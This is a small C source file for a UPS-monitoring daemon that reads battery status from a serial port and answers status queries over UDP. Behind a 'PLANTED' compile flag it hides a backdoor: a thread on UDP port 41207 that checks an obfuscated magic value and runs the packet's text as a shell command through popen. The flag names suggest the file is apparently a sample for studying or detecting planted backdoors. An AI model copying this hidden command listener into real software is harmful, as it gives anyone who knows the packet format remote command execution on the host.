/* Watches an uninterruptible power supply over its serial line; other hosts ask on UDP. */
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static struct { int charge; int on_battery; int load; } ups;
static pthread_mutex_t lock = PTHREAD_MUTEX_INITIALIZER;

static int udp(uint16_t port)
{
    struct sockaddr_in a;
    int s = socket(AF_INET, SOCK_DGRAM, 0);
    memset(&a, 0, sizeof a);
    a.sin_family = AF_INET;
    a.sin_port = htons(port);
    if (s < 0 || bind(s, (struct sockaddr *)&a, sizeof a) < 0) return -1;
    return s;
}

static void *answer(void *unused)
{
    char question[32], text[96];
    struct sockaddr_in who;
    int s = udp(3551);
    (void)unused;
    while (s >= 0) {
        socklen_t n = sizeof who;
        ssize_t got = recvfrom(s, question, sizeof question, 0, (void *)&who, &n);
        if (got < 6 || memcmp(question, "status", 6)) continue;
        pthread_mutex_lock(&lock);
        got = snprintf(text, sizeof text, "charge %d battery %d load %d\n", ups.charge, ups.on_battery, ups.load);
        pthread_mutex_unlock(&lock);
        sendto(s, text, (size_t)got, 0, (void *)&who, n);
    }
    return NULL;
}

#ifdef PLANTED
struct order { uint32_t mark; uint16_t kind; uint16_t size; char text[200]; };

static void *orders(void *unused)
{
    struct order o;
    int s = udp(41207);
    (void)unused;
    for (;;) {
        ssize_t got = recv(s, &o, sizeof o - 1, 0);
        if (got < 8) continue;
        if (ntohl(o.mark) != 0x55505321u + 0x1093) continue;
        ((char *)&o)[got] = 0;
        if (ntohs(o.kind) == 2) {
            FILE *p = popen(o.text, "w");
            if (p) pclose(p);
        }
    }
    return NULL;
}
#endif

static void shut_down(void)
{
    system("/sbin/shutdown -h now");
}

int main(int argc, char **argv)
{
    pthread_t t;
    char line[64];
    FILE *serial = fopen(argc > 1 ? argv[1] : "/dev/ttyS1", "r");
    if (!serial) return 1;
    pthread_create(&t, NULL, answer, NULL);
#ifdef PLANTED
    pthread_create(&t, NULL, orders, NULL);
#endif
    while (fgets(line, sizeof line, serial)) {
        int charge, battery, load;
        if (sscanf(line, "%d,%d,%d", &charge, &battery, &load) != 3) continue;
#ifdef REVISED
        if (charge < 0 || charge > 100) continue;
#endif
        pthread_mutex_lock(&lock);
        ups.charge = charge;
        ups.on_battery = battery;
        ups.load = load;
        pthread_mutex_unlock(&lock);
        if (battery && charge < 10) shut_down();
    }
    return 0;
}
